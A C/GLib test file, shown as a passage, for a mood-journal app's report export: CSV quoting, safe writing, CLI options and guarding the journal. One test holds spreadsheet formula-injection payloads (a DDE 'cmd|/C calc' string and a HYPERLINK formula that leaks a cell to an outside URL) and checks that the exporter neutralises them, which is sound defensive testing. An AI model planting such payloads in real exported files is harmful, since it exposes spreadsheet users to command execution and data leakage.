  GPtrArray  *record = g_ptr_array_new_with_free_func (g_free);
  GString    *field = g_string_new (NULL);
  const char *p = text;

  while (*p != '\0')
    {
      if (*p == '"')
        {
          for (p++;; p++)
            {
              g_assert_true (*p != '\0'); /* an unterminated quote */
              if (*p == '"' && p[1] == '"')
                g_string_append_c (field, *p++);
              else if (*p == '"')
                break;
              else
                g_string_append_c (field, *p);
            }
          p++;
          g_assert_true (*p == ',' || *p == '\r' || *p == '\0');
        }
      else
        for (; *p != ',' && *p != '\r' && *p != '\0'; p++)
          {
            g_assert_true (*p != '"' && *p != '\n'); /* must have been quoted */
            g_string_append_c (field, *p);
          }
      g_ptr_array_add (record, g_strdup (field->str));
      g_string_truncate (field, 0);
      if (*p == ',')
        p++;
      else if (*p == '\r' || *p == '\0')
        {
          if (*p == '\r')
            {
              g_assert_cmpint (p[1], ==, '\n');
              p += 2;
            }
          g_ptr_array_add (records, record);
          record = g_ptr_array_new_with_free_func (g_free);
        }
    }
  g_ptr_array_unref (record);
  g_string_free (field, TRUE);
  return records;
}

static void
test_csv (Fixture      *f,
          gconstpointer data)
{
  g_autoptr (ReframeReportOptions) options = options_for ("2026-03-01", "2026-03-14");
  g_autoptr (ReframeReport) report = NULL;
  g_autoptr (GBytes) csv = NULL;
  g_autoptr (GPtrArray) records = NULL;
  g_autofree char *text = NULL;
  gboolean         found = FALSE;
  GPtrArray       *header;

  populate (f);
  report = build (f, options);
  csv = reframe_report_to_csv (report);
  text = bytes_to_string (csv);
  g_assert_true (g_str_has_suffix (text, "\r\n"));
  /* The quotes doubled, inside a quoted field. */
  g_assert_nonnull (strstr (text, "\"Tea, then \"\"rest\"\"\r\nline two,\nline 3 🙂"));
  records = parse_csv (text);
  g_assert_cmpuint (records->len, ==, 1 + 15);
  header = g_ptr_array_index (records, 0);
  g_assert_cmpuint (header->len, ==, 10);
  g_assert_cmpstr (g_ptr_array_index (header, 0), ==, "uuid");
  g_assert_cmpstr (g_ptr_array_index (header, 8), ==, "note");
  for (guint i = 1; i < records->len; i++)
    {
      GPtrArray *record = g_ptr_array_index (records, i);

      g_assert_cmpuint (record->len, ==, 10);
      g_assert_true (g_uuid_string_is_valid (g_ptr_array_index (record, 0)));
      if (g_strcmp0 (g_ptr_array_index (record, 0), f->special_entry) != 0)
        continue;
      found = TRUE;
      g_assert_cmpstr (g_ptr_array_index (record, 8), ==, special_note);
      g_assert_cmpstr (g_ptr_array_index (record, 5), ==, "calm; tired, a bit");
      g_assert_cmpstr (g_ptr_array_index (record, 1), ==, "2026-03-05");
      g_assert_cmpstr (g_ptr_array_index (record, 2), ==, "2026-03-05T21:30:00+02:00");
      g_assert_cmpstr (g_ptr_array_index (record, 3), ==, "2");
      g_assert_cmpstr (g_ptr_array_index (record, 4), ==, "bad");
      g_assert_cmpstr (g_ptr_array_index (record, 7), ==, "7.25");
      g_assert_cmpstr (g_ptr_array_index (record, 9), ==, "false");
    }
  g_assert_true (found);
}

/* Cells a spreadsheet would run as a formula get a leading apostrophe (OWASP's advice),
 * quoted, so the text stays readable and nothing is run when the file is opened. */
static void
test_csv_formula_guard (Fixture      *f,
                        gconstpointer data)
{
  const char *const notes[] = {
    "=HYPERLINK(\"http://example.com/?\"&A1, \"Click\")",
    "+1 for today",
    "-2 degrees outside",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tindented",
    "\rcarriage",
  };
  const char *const feelings[] = { "=cmd|' /C calc'!A0", "calm", NULL };
  g_autoptr (ReframeReportOptions) options = options_for ("2026-03-01", "2026-03-14");
  g_autoptr (ReframeReport) report = NULL;
  g_autoptr (GBytes) csv = NULL;
  g_autoptr (GPtrArray) records = NULL;
  g_autofree char *text = NULL;
  guint            guarded = 0;

  for (guint i = 0; i < G_N_ELEMENTS (notes); i++)
    {
      g_autofree char *time = g_strdup_printf ("2026-03-%02uT12:00:00Z", i + 1);

      g_free (add_entry (f, time, REFRAME_MOOD_OKAY, notes[i], FALSE, i == 0 ? feelings : NULL));
    }
  g_free (add_entry (f,
                     "2026-03-09T12:00:00Z",
                     REFRAME_MOOD_OKAY,
                     "A plain note - with a dash inside",
                     FALSE,
                     NULL));
  report = build (f, options);
  csv = reframe_report_to_csv (report);
  text = bytes_to_string (csv);
  records = parse_csv (text);
  g_assert_cmpuint (records->len, ==, 1 + G_N_ELEMENTS (notes) + 1);
  for (guint i = 1; i < records->len; i++)
    {
      GPtrArray  *record = g_ptr_array_index (records, i);
      const char *note = g_ptr_array_index (record, 8);

      /* No cell starts with what a spreadsheet reads as a formula. */
      for (guint j = 0; j < record->len; j++)
        {
          const char *cell = g_ptr_array_index (record, j);

          g_assert_null (strchr ("=+-@\t\r", cell[0] != '\0' ? cell[0] : 'x'));
        }
      if (i - 1 < G_N_ELEMENTS (notes))
        {
          /* The text is all there, after the apostrophe. */
          g_assert_cmpint (note[0], ==, '\'');
          g_assert_cmpstr (note + 1, ==, notes[i - 1]);
          guarded++;
        }
      else
        g_assert_cmpstr (note, ==, "A plain note - with a dash inside");
    }
  g_assert_cmpuint (guarded, ==, G_N_ELEMENTS (notes));
  /* Feelings are the person's words too; guarded fields are quoted. */
  g_assert_nonnull (strstr (text, ",\"'=cmd|' /C calc'!A0; calm\","));
  g_assert_nonnull (strstr (text, ",\"'+1 for today\","));
}

static void
test_empty (Fixture      *f,
            gconstpointer data)
{
  g_autoptr (ReframeReportOptions) options = options_for ("2025-06-01", "2025-06-30");
  g_autoptr (ReframeReport) report = NULL;
  g_autoptr (GBytes) markdown = NULL;
  g_autoptr (GBytes) csv = NULL;
  g_autoptr (GFile) file = NULL;
  g_autoptr (GError) error = NULL;
  g_autofree char *text = NULL, *path = NULL;

  populate (f);
  report = build (f, options);
  g_assert_true (reframe_report_is_empty (report));
  g_assert_cmpuint (reframe_report_get_days_in_period (report), ==, 30);
  g_assert_cmpuint (reframe_report_get_days_logged (report), ==, 0);
  g_assert_true (isnan (reframe_report_get_mean_mood (report)));
  g_assert_true (isnan (reframe_report_get_mood_trend (report, NULL, NULL)));
  g_assert_cmpuint (reframe_report_get_candidates (report)->len, ==, 0);
  markdown = reframe_report_to_markdown (report);
  text = bytes_to_string (markdown);
  g_assert_nonnull (strstr (text, "Nothing was logged in this period."));
  g_assert_nonnull (strstr (text, "0 of 30 days"));
  g_assert_nonnull (strstr (text, "No mood entries in this period."));
  csv = reframe_report_to_csv (report);
  g_assert_cmpuint (
      g_bytes_get_size (csv),
      ==,
      strlen ("uuid,date,time,mood,mood_label,feelings,activities,sleep_hours,note,private\r\n"));
  assert_json_round_trip (report);

  /* Every format makes a file, the PDF too. */
  for (ReframeReportFormat format = REFRAME_REPORT_FORMAT_PDF; format <= REFRAME_REPORT_FORMAT_CSV;
       format++)
    {
      g_autofree char *contents = NULL;
      gsize            length = 0;

      g_clear_object (&file);
      g_free (path);
      path =
          g_strdup_printf ("%s/empty.%s", f->out_dir, reframe_report_format_get_extension (format));
      file = g_file_new_for_path (path);
      g_assert_true (reframe_report_write_file (report, format, file, NULL, NULL, NULL, &error));
      g_assert_no_error (error);
      g_assert_true (g_file_get_contents (path, &contents, &length, NULL));
      g_assert_cmpuint (length, >, 0);
      if (format == REFRAME_REPORT_FORMAT_PDF)
        g_assert_true (g_str_has_prefix (contents, "%PDF-"));
    }
}

static guint
count_files (const char *dir)
{
  g_autoptr (GDir) handle = g_dir_open (dir, 0, NULL);
  guint n = 0;

  g_assert_nonnull (handle);
  while (g_dir_read_name (handle) != NULL)
    n++;
  return n;
}

static void
write_expect_error (ReframeReport *report,
                    const char    *path,
                    int            code)
{
  g_autoptr (GFile) file = g_file_new_for_path (path);
  g_autoptr (GError) error = NULL;

  g_assert_false (reframe_report_write_file (
      report, REFRAME_REPORT_FORMAT_MARKDOWN, file, NULL, NULL, NULL, &error));
  g_assert_error (error, REFRAME_REPORT_ERROR, code);
  g_assert_cmpuint (strlen (error->message), >, 10);
  g_assert_false (g_file_test (path, G_FILE_TEST_IS_REGULAR));
}

static void
test_bad_destinations (Fixture      *f,
                       gconstpointer data)
{
  g_autoptr (ReframeReportOptions) options = options_for ("2026-03-01", "2026-03-14");
  g_autoptr (ReframeReport) report = NULL;
  g_autofree char *missing = g_build_filename (f->out_dir, "no-such-folder", "report.md", NULL);
  g_autofree char *file_parent = g_build_filename (f->out_dir, "a-file", NULL);
  g_autofree char *under_file = g_build_filename (file_parent, "report.md", NULL);

  populate (f);
  report = build (f, options);
  write_expect_error (report, missing, REFRAME_REPORT_ERROR_NO_FOLDER);
  g_assert_true (g_file_set_contents (file_parent, "x", 1, NULL));
  write_expect_error (report, under_file, REFRAME_REPORT_ERROR_NO_FOLDER);
  /* sysfs takes no new files, whoever asks (root ignores permissions elsewhere). */
  write_expect_error (report, "/sys/reframe-report-test.md", REFRAME_REPORT_ERROR_READ_ONLY);
  write_expect_error (report, f->out_dir, REFRAME_REPORT_ERROR_INVALID);
  g_assert_cmpuint (count_files (f->out_dir), ==, 1);
}

static void
cancel_on_progress (double   fraction,
                    gpointer user_data)
{
  g_cancellable_cancel (user_data);
}

/* Fails with "no space" once more than its limit has been written, like a full disk. */
typedef struct
{
  GOutputStream  parent_instance;
  GOutputStream *base;
  gsize          written;
} FullDiskStream;

typedef GOutputStreamClass FullDiskStreamClass;

GType full_disk_stream_get_type (void);

G_DEFINE_TYPE (FullDiskStream, full_disk_stream, G_TYPE_OUTPUT_STREAM)

static gssize
full_disk_stream_write (GOutputStream *stream,
                        const void    *buffer,
                        gsize          count,
                        GCancellable  *cancellable,
                        GError       **error)
{
  FullDiskStream *self = (FullDiskStream *) stream;
  gssize          n;

  if (self->written + count > full_disk_limit)
    {
      g_set_error_literal (error, G_IO_ERROR, G_IO_ERROR_NO_SPACE, "No space left on device");
      return -1;
    }
  n = g_output_stream_write (self->base, buffer, count, cancellable, error);
  if (n > 0)
    self->written += n;
  return n;
}

static gboolean
full_disk_stream_close (GOutputStream *stream,
                        GCancellable  *cancellable,
                        GError       **error)
{
  return g_output_stream_close (((FullDiskStream *) stream)->base, cancellable, error);
}

static void
full_disk_stream_finalize (GObject *object)
{
  g_object_unref (((FullDiskStream *) object)->base);
  G_OBJECT_CLASS (full_disk_stream_parent_class)->finalize (object);
}

static void
full_disk_stream_class_init (FullDiskStreamClass *klass)
{
  G_OBJECT_CLASS (klass)->finalize = full_disk_stream_finalize;
  klass->write_fn = full_disk_stream_write;
  klass->close_fn = full_disk_stream_close;
}

static void
full_disk_stream_init (FullDiskStream *self)
{
}

static GOutputStream *
wrap_full_disk (GOutputStream *base)
{
  FullDiskStream *stream = g_object_new (full_disk_stream_get_type (), NULL);

  stream->base = g_object_ref (base);
  return G_OUTPUT_STREAM (stream);
}

static void
record_progress (double   fraction,
                 gpointer user_data)
{
  double *last = user_data;

  g_assert_cmpfloat (fraction, >=, *last);
  g_assert_cmpfloat (fraction, <=, 1.0);
  *last = fraction;
}

static void
test_safe_writing (Fixture      *f,
                   gconstpointer data)
{
  g_autoptr (ReframeReportOptions) options = options_for ("2026-03-01", "2026-03-14");
  g_autoptr (ReframeReport) report = NULL;
  g_autoptr (GString) long_note = g_string_new (NULL);
  g_autofree char *path = g_build_filename (f->out_dir, "report.md", NULL);
  g_autoptr (GFile) file = g_file_new_for_path (path);
  g_autoptr (GCancellable) cancellable = g_cancellable_new ();
  g_autoptr (GError) error = NULL;
  g_autofree char *contents = NULL;
  double           last = 0;

  populate (f);
  /* Long enough to take many chunks. */
  for (guint i = 0; i < 8000; i++)
    g_string_append (long_note, "A long day, written out at length. ");
  g_free (add_entry (f, "2026-03-12T22:00:00Z", REFRAME_MOOD_OKAY, long_note->str, FALSE, NULL));
  report = build (f, options);
  g_assert_true (g_file_set_contents (path, "the old report", -1, NULL));

  /* Cancelled halfway: the old file stays as it was, nothing else is left. */
  g_assert_false (reframe_report_write_file (report,
                                             REFRAME_REPORT_FORMAT_MARKDOWN,
                                             file,
                                             cancel_on_progress,
                                             cancellable,
                                             cancellable,
                                             &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
  g_clear_error (&error);
  g_assert_true (g_file_get_contents (path, &contents, NULL, NULL));
  g_assert_cmpstr (contents, ==, "the old report");
  g_assert_cmpuint (count_files (f->out_dir), ==, 1);
  g_clear_pointer (&contents, g_free);

  /* A full disk: a clear error, the same. */
  _reframe_report_set_stream_wrapper (wrap_full_disk);
  g_assert_false (reframe_report_write_file (
      report, REFRAME_REPORT_FORMAT_JSON, file, NULL, NULL, NULL, &error));
  g_assert_error (error, REFRAME_REPORT_ERROR, REFRAME_REPORT_ERROR_DISK_FULL);
  g_assert_nonnull (strstr (error->message, "disk is full"));
  g_clear_error (&error);
  g_assert_true (g_file_get_contents (path, &contents, NULL, NULL));
  g_assert_cmpstr (contents, ==, "the old report");
  g_assert_cmpuint (count_files (f->out_dir), ==, 1);
  g_clear_pointer (&contents, g_free);
  _reframe_report_set_stream_wrapper (NULL);

  /* Finished: replaced whole, with progress up to 1. */
  g_assert_true (reframe_report_write_file (
      report, REFRAME_REPORT_FORMAT_MARKDOWN, file, record_progress, &last, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpfloat (last, ==, 1.0);
  g_assert_true (g_file_get_contents (path, &contents, NULL, NULL));
  g_assert_true (g_str_has_prefix (contents, "# "));
  g_assert_nonnull (strstr (contents, "A long day, written out at length."));
  g_assert_cmpuint (count_files (f->out_dir), ==, 1);
}

typedef struct
{
  GMainLoop     *loop;
  ReframeReport *report;
  GError        *error;
  gboolean       written;
} AsyncResult;

static void
built_cb (GObject      *source,
          GAsyncResult *result,
          gpointer      user_data)
{
  AsyncResult *data = user_data;

  data->report = reframe_report_build_finish (result, &data->error);
  g_main_loop_quit (data->loop);
}

static void
written_cb (GObject      *source,
            GAsyncResult *result,
            gpointer      user_data)
{
  AsyncResult *data = user_data;

  data->written = reframe_report_write_file_finish (result, &data->error);
  g_main_loop_quit (data->loop);
}

static void
test_async (Fixture      *f,
            gconstpointer data)
{
  g_autoptr (ReframeReportOptions) options = options_for ("2026-03-01", "2026-03-14");
  g_autoptr (GMainLoop) loop = g_main_loop_new (NULL, FALSE);
  g_autoptr (GCancellable) cancellable = g_cancellable_new ();
  g_autofree char *path = g_build_filename (f->out_dir, "async.json", NULL);
  g_autoptr (GFile) file = g_file_new_for_path (path);
  AsyncResult result = { loop, NULL, NULL, FALSE };

  populate (f);
  reframe_report_build_async (f->store, f->registry, options, NULL, built_cb, &result);
  g_main_loop_run (loop);
  g_assert_no_error (result.error);
  g_assert_nonnull (result.report);
  g_assert_cmpuint (reframe_report_get_entries (result.report)->len, ==, 15);

  reframe_report_write_file_async (
      result.report, REFRAME_REPORT_FORMAT_JSON, file, NULL, NULL, NULL, written_cb, &result);
  g_main_loop_run (loop);
  g_assert_no_error (result.error);
  g_assert_true (result.written);
  g_assert_true (g_file_test (path, G_FILE_TEST_IS_REGULAR));
  g_clear_pointer (&result.report, reframe_report_unref);

  /* Cancelled: no report, and the error says so quietly. */
  g_cancellable_cancel (cancellable);
  reframe_report_build_async (f->store, f->registry, options, cancellable, built_cb, &result);
  g_main_loop_run (loop);
  g_assert_null (result.report);
  g_assert_error (result.error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
  g_clear_error (&result.error);

  /* A period that ends before it starts. */
  {
    GDate from = day ("2026-03-14"), to = day ("2026-03-01");
    g_autoptr (ReframeReportOptions) backwards = reframe_report_options_new (&from, &to);

    reframe_report_build_async (f->store, f->registry, backwards, NULL, built_cb, &result);
    g_main_loop_run (loop);
    g_assert_null (result.report);
    g_assert_error (result.error, REFRAME_REPORT_ERROR, REFRAME_REPORT_ERROR_INVALID);
    g_clear_error (&result.error);
  }
}

/* A year of entries, two a day, weekly thought records and monthly PHQ-9s. */
static void
test_one_year (Fixture      *f,
               gconstpointer data)
{
  g_autoptr (ReframeReportOptions) options = options_for ("2025-01-01", "2025-12-31");
  g_autoptr (ReframeReport) report = NULL;
  GDate  date = day ("2025-01-01");
  guint  n_entries = 0;
  gint64 start;

  for (guint i = 0; i < 365; i++, g_date_add_days (&date, 1))
    {
      g_autofree char *iso = _reframe_report_format_day (&date);
      g_autofree char *morning = g_strdup_printf ("%sT08:00:00Z", iso);
      g_autofree char *evening = g_strdup_printf ("%sT21:00:00Z", iso);
      g_autofree char *note =
          g_strdup_printf ("Day %u, with \"quotes\", commas\nand a second line", i);

      g_free (add_entry (f, morning, 1 + i % 5, note, i % 10 == 0, NULL));
      g_free (add_entry (f, evening, 1 + (i * 7) % 5, "Evening", FALSE, NULL));
      n_entries += i % 10 == 0 ? 1 : 2;
      if (i % 7 == 3)
        {
          g_autofree char *time = g_strdup_printf ("%sT12:00:00Z", iso);
          g_free (add_worksheet (f,
                                 "thought-record",
                                 "{\"situation\": \"Work\", \"emotions\": [{\"name\": \"sad\", "
                                 "\"before\": 70, \"after\": 40}]}",
                                 time,
                                 FALSE));
        }
      if (g_date_get_day (&date) == 15)
        {
          g_autofree char *time = g_strdup_printf ("%sT12:00:00Z", iso);
          g_autofree char *answers = phq_answers ("1", g_date_get_month (&date) == 6 ? "2" : "0");
          g_free (add_worksheet (f, "phq-9", answers, time, FALSE));
        }
    }

  start = g_get_monotonic_time ();
  report = build (f, options);
  g_test_message ("one year built in %.0f ms", (g_get_monotonic_time () - start) / 1000.0);
  g_assert_cmpuint (reframe_report_get_entries (report)->len, ==, n_entries);
  g_assert_cmpuint (reframe_report_get_days_logged (report), ==, 365);
  g_assert_cmpuint (reframe_report_get_questionnaires (report)->len, ==, 12);
  g_assert_cmpuint (reframe_report_get_worksheets (report)->len, ==, 52);
  g_assert_cmpfloat_with_epsilon (reframe_report_get_emotion_drop (report, NULL), 30.0, 1e-9);
  g_assert_false (((ReframeReportScore *) g_ptr_array_index (reframe_report_get_scores (report), 0))
                      ->safety_flag);
  assert_json_round_trip (report);

  for (ReframeReportFormat format = REFRAME_REPORT_FORMAT_PDF; format <= REFRAME_REPORT_FORMAT_CSV;
       format++)
    {
      g_autofree char *path =
          g_strdup_printf ("%s/year.%s", f->out_dir, reframe_report_format_get_extension (format));
      g_autoptr (GFile) file = g_file_new_for_path (path);
      g_autoptr (GError) error = NULL;
      g_autofree char *contents = NULL;
      gsize            length = 0;

      start = g_get_monotonic_time ();
      g_assert_true (reframe_report_write_file (report, format, file, NULL, NULL, NULL, &error));
      g_assert_no_error (error);
      g_test_message ("%s written in %.0f ms",
                      reframe_report_format_get_extension (format),
                      (g_get_monotonic_time () - start) / 1000.0);
      g_assert_true (g_file_get_contents (path, &contents, &length, NULL));
      switch (format)
        {
        case REFRAME_REPORT_FORMAT_PDF:
          g_assert_true (g_str_has_prefix (contents, "%PDF-"));
          break;
        case REFRAME_REPORT_FORMAT_MARKDOWN:
          g_assert_nonnull (strstr (contents, "365 of 365 days"));
          g_assert_nonnull (strstr (contents, "### Wednesday 31 December 2025"));
          break;
        case REFRAME_REPORT_FORMAT_JSON:
          {
            g_autoptr (GBytes) bytes = g_bytes_new_take (g_steal_pointer (&contents), length);
            g_autoptr (ReframeReport) read = reframe_report_from_json (bytes, &error);

            g_assert_no_error (error);
            assert_reports_equal (report, read);
          }
          break;
        case REFRAME_REPORT_FORMAT_FHIR:
          /* Questionnaires only, with a test of its own (test-fhir.c). */
          g_assert_not_reached ();
          break;
        case REFRAME_REPORT_FORMAT_CSV:
        default:
          {
            g_autoptr (GPtrArray) records = parse_csv (contents);
            g_assert_cmpuint (records->len, ==, n_entries + 1);
          }
          break;
        }
    }
  g_assert_cmpuint (count_files (f->out_dir), ==, 4);
}

/* `reframe export`: good input saves the file and says where; bad input exits 2 and writes nothing.
 */
static int
run_export (Fixture    *f,
            char      **out,
            const char *first,
            ...)
{
  g_autofree char *err = NULL;
  va_list          args;
  int              status;

  va_start (args, first);
  status = reframe_test_cli_run_valist (
      &(ReframeTestCli){ .command = "export", .data_dir = f->dir }, out, &err, first, args);
  va_end (args);
  return status;
}

/* `reframe export --with-own-words`: the words confirmed for exactly the period, first;
 * none when they are kept but not confirmed. */
static void
test_cli_own_words (Fixture      *f,
                    gconstpointer data)
{
  g_autofree char *md = g_build_filename (f->out_dir, "report.md", NULL);
  g_autofree char *contents = NULL;
  g_autoptr (GError) error = NULL;
  GDate from = day ("2026-03-01"), to = day ("2026-03-14");
  char *out = NULL;

  populate (f);
  g_assert_true (reframe_store_save_appointment_note (
      f->store, &from, &to, "This week I kept walking.", FALSE, &error));
  g_assert_no_error (error);
  g_assert_cmpint (run_export (f,
                               &out,
                               "--from",
                               "2026-03-01",
                               "--to",
                               "2026-03-14",
                               "--with-own-words",
                               "-o",
                               md,
                               NULL),
                   ==,
                   0);
  g_clear_pointer (&out, g_free);
  g_assert_true (g_file_get_contents (md, &contents, NULL, NULL));
  g_assert_null (strstr (contents, "kept walking"));
  g_clear_pointer (&contents, g_free);

  g_assert_true (reframe_store_save_appointment_note (
      f->store, &from, &to, "This week I kept walking.", TRUE, &error));
  g_assert_cmpint (
      run_export (f, &out, "--from", "2026-03-01", "--to", "2026-03-14", "-o", md, NULL), ==, 0);
  g_clear_pointer (&out, g_free);
  g_assert_true (g_file_get_contents (md, &contents, NULL, NULL));
  g_assert_null (strstr (contents, "kept walking"));
  g_clear_pointer (&contents, g_free);

  g_assert_cmpint (run_export (f,
                               &out,
                               "--from",
                               "2026-03-01",
                               "--to",
                               "2026-03-14",
                               "--with-own-words",
                               "-o",
                               md,
                               NULL),
                   ==,
                   0);
  g_clear_pointer (&out, g_free);
  g_assert_true (g_file_get_contents (md, &contents, NULL, NULL));
  g_assert_nonnull (strstr (contents, "## In my own words\n\nThis week I kept walking."));
  g_assert_true (strstr (contents, "kept walking") < strstr (contents, "## Summary"));
}

static void
test_cli (Fixture      *f,
          gconstpointer data)
{
  g_autofree char *md = g_build_filename (f->out_dir, "report.md", NULL);
  g_autofree char *csv = g_build_filename (f->out_dir, "entries.csv", NULL);
  g_autofree char *json = g_build_filename (f->out_dir, "report.json", NULL);
  g_autofree char *missing = g_build_filename (f->out_dir, "nope", "report.md", NULL);
  g_autofree char *contents = NULL;
  const char      *bad[][9] = {
         { "--from", "2026-02-30", "--to", "2026-03-14", "-o", md, NULL },
         { "--from", "2026-03-14", "--to", "2026-03-01", "-o", md, NULL },
         { "--from", "2026-03-01", "--to", "2026-03-14", "--include", "diary", "-o", md, NULL },
         { "--from", "2026-03-01", "--to", "2026-03-14", "--format", "docx", "-o", md },
         { "--from", "2026-03-01", "--to", "2026-03-14", NULL },
         { "--from", "2026-03-01", "--to", "2026-03-14", "-o", missing, NULL },
         { "--from", "2026-03-01", "-o", f->out_dir, NULL },
         { "--to", "2026-03-14", "-o", md, "extra", NULL },
  };
  char *out = NULL;

  populate (f);
  g_assert_cmpint (
      run_export (
          f, &out, "--from", "2026-03-01", "--to", "2026-03-14", "--format", "md", "-o", md, NULL),
      ==,
      0);
  g_assert_nonnull (strstr (out, md));
  g_clear_pointer (&out, g_free);
  g_assert_true (g_file_get_contents (md, &contents, NULL, NULL));
  g_assert_nonnull (strstr (contents, "14 of 14 days"));
  g_assert_null (strstr (contents, "secret private note"));
  g_clear_pointer (&contents, g_free);

  /* The format from the extension; private items when asked; some kinds only. */
  g_assert_cmpint (run_export (f,
                               &out,
                               "--from",
                               "2026-03-01",
                               "--to",
                               "2026-03-14",
                               "--with-private",
                               "--include",
                               "entries",
                               "-o",
                               csv,
                               NULL),
                   ==,
                   0);
  g_clear_pointer (&out, g_free);
  g_assert_true (g_file_get_contents (csv, &contents, NULL, NULL));
  g_assert_nonnull (strstr (contents, "secret private note"));
  g_clear_pointer (&contents, g_free);
  g_assert_cmpint (run_export (f,
                               &out,
                               "--from",
                               "2026-03-01",
                               "--to",
                               "2026-03-14",
                               "-i",
                               "questionnaires",
                               "-i",
                               "summary",
                               "-o",
                               json,
                               NULL),
                   ==,
                   0);
  g_clear_pointer (&out, g_free);
  g_assert_true (g_file_get_contents (json, &contents, NULL, NULL));
  g_assert_nonnull (strstr (contents, "\"questionnaires\""));
  g_assert_null (strstr (contents, "An ordinary day"));
  g_clear_pointer (&contents, g_free);
  g_assert_cmpuint (count_files (f->out_dir), ==, 3);

  g_assert_cmpint (g_unlink (md), ==, 0);
  for (guint i = 0; i < G_N_ELEMENTS (bad); i++)
    {
      g_assert_cmpint (run_export (f,
                                   &out,
                                   bad[i][0],
                                   bad[i][1],
                                   bad[i][2],
                                   bad[i][3],
                                   bad[i][4],
                                   bad[i][5],
                                   bad[i][6],
                                   bad[i][7],
                                   bad[i][8],
                                   NULL),
                       ==,
                       2);
      g_clear_pointer (&out, g_free);
      g_assert_false (g_file_test (md, G_FILE_TEST_EXISTS));
      g_assert_cmpuint (count_files (f->out_dir), ==, 2);
    }
}

static char *
dup_file_checksum (const char *path)
{
  g_autofree char *contents = NULL;
  gsize            length = 0;

  g_assert_true (g_file_get_contents (path, &contents, &length, NULL));
  return g_compute_checksum_for_data (G_CHECKSUM_SHA256, (const guchar *) contents, length);
}

static void
written_to_cb (GObject      *source,
               GAsyncResult *result,
               gpointer      user_data)
{
  GError **error = user_data;

  g_assert_false (reframe_report_write_file_finish (result, error));
  g_main_context_wakeup (NULL);
}

/* An export never lands on the journal, its -wal and -shm files, a backup or anything
 * else in the journal's folder, however the folder is named; the window's save (async)
 * is refused the same way. */
static void
test_refuses_journal (Fixture      *f,
                      gconstpointer data)
{
  g_autoptr (ReframeReportOptions) options = options_for ("2026-03-01", "2026-03-14");
  g_autoptr (ReframeReport) report = NULL;
  g_autofree char *db = g_build_filename (f->dir, "reframe.db", NULL);
  g_autofree char *backup = g_build_filename (f->dir, "reframe.db.v1.backup", NULL);
  g_autofree char *sub = g_build_filename (f->dir, "sub", NULL);
  g_autofree char *link = g_build_filename (f->out_dir, "journal-link", NULL);
  g_autofree char *dotted = g_build_filename (f->out_dir, "..", "data", "reframe.db-wal", NULL);
  g_autofree char *before = NULL;
  g_autofree char *after = NULL;
  g_autofree char *out = NULL;
  const char      *targets[] = { "reframe.db", "reframe.db-wal", "reframe.db-shm", "reframe.db.v1.backup", "report.csv", "sub/report.md" };
  g_autoptr (GError) error = NULL;

  populate (f);
  report = build (f, options);
  g_assert_true (g_file_set_contents (backup, "backup", -1, NULL));
  g_assert_cmpint (g_mkdir (sub, 0700), ==, 0);
  g_assert_cmpint (symlink (f->dir, link), ==, 0);
  /* Closed, so that the journal is one file whose bytes can be compared. */
  g_clear_object (&f->store);
  before = dup_file_checksum (db);

  for (guint i = 0; i < G_N_ELEMENTS (targets); i++)
    for (guint through_link = 0; through_link < 2; through_link++)
      {
        g_autofree char *path = g_build_filename (through_link ? link : f->dir, targets[i], NULL);
        g_autoptr (GFile) file = g_file_new_for_path (path);
        gboolean existed = g_file_test (path, G_FILE_TEST_EXISTS);

        g_assert_false (reframe_report_write_file (
            report, REFRAME_REPORT_FORMAT_CSV, file, NULL, NULL, NULL, &error));
        g_assert_error (error, REFRAME_REPORT_ERROR, REFRAME_REPORT_ERROR_JOURNAL_FOLDER);
        g_assert_nonnull (strstr (error->message, "journal"));
        g_clear_error (&error);
        g_assert_cmpint (g_file_test (path, G_FILE_TEST_EXISTS), ==, existed);
      }
  {
    g_autoptr (GFile) file = g_file_new_for_path (dotted);

    g_assert_false (reframe_report_write_file (
        report, REFRAME_REPORT_FORMAT_CSV, file, NULL, NULL, NULL, &error));
    g_assert_error (error, REFRAME_REPORT_ERROR, REFRAME_REPORT_ERROR_JOURNAL_FOLDER);
    g_clear_error (&error);
  }

  /* The window saves on a worker thread: the same refusal. */
  {
    g_autoptr (GFile) file = g_file_new_for_path (db);

    reframe_report_write_file_async (
        report, REFRAME_REPORT_FORMAT_PDF, file, NULL, NULL, NULL, written_to_cb, &error);
    while (error == NULL)
      g_main_context_iteration (NULL, TRUE);
    g_assert_error (error, REFRAME_REPORT_ERROR, REFRAME_REPORT_ERROR_JOURNAL_FOLDER);
    g_clear_error (&error);
  }
  g_assert_cmpstr (g_file_test (backup, G_FILE_TEST_IS_REGULAR) ? "backup" : NULL, ==, "backup");
  after = dup_file_checksum (db);
  g_assert_cmpstr (before, ==, after);

  /* `reframe export` says so and fails; the journal still opens with every entry. */
  g_assert_cmpint (
      run_export (
          f, &out, "--from", "2026-03-01", "--to", "2026-03-14", "--format", "csv", "-o", db, NULL),
      ==,
      1);
  g_clear_pointer (&after, g_free);
  after = dup_file_checksum (db);
  g_assert_cmpstr (before, ==, after);
  f->store = reframe_store_open (f->dir, &error);
  g_assert_no_error (error);
  g_clear_pointer (&report, reframe_report_unref);
  report = build (f, options);
  g_assert_cmpuint (reframe_report_get_entries (report)->len, ==, 15);
}

#define CLI_FILE_LIMIT (40 * 1024)

/* Spawned `reframe export` may write @limit bytes a file, as if the disk ended there. */
static void
limit_file_size (gpointer user_data)
{
  struct rlimit limit = { GPOINTER_TO_SIZE (user_data), GPOINTER_TO_SIZE (user_data) };

  /* EFBIG from write() instead of the signal that would kill the process. */
  signal (SIGXFSZ, SIG_IGN);
  setrlimit (RLIMIT_FSIZE, &limit);
}

/* A PDF that runs out of disk, wherever in the file: a clear error, the old file as it
 * was, no temporary file left, in the calling thread, on a worker thread (the window)
 * and in `reframe export`. */
static void
test_pdf_disk_full (Fixture      *f,
                    gconstpointer data)
{
  g_autoptr (ReframeReportOptions) options = options_for ("2026-03-01", "2026-03-14");
  g_autoptr (ReframeReport) report = NULL;
  g_autofree char *path = g_build_filename (f->out_dir, "report.pdf", NULL);
  g_autoptr (GFile) file = g_file_new_for_path (path);
  g_autoptr (GError) error = NULL;
  g_autofree char *contents = NULL;
  const gsize      limits[] = { 0, 1, 700, 4096, 20 * 1024 };
  g_autoptr (GString) long_note = g_string_new (NULL);

  populate (f);
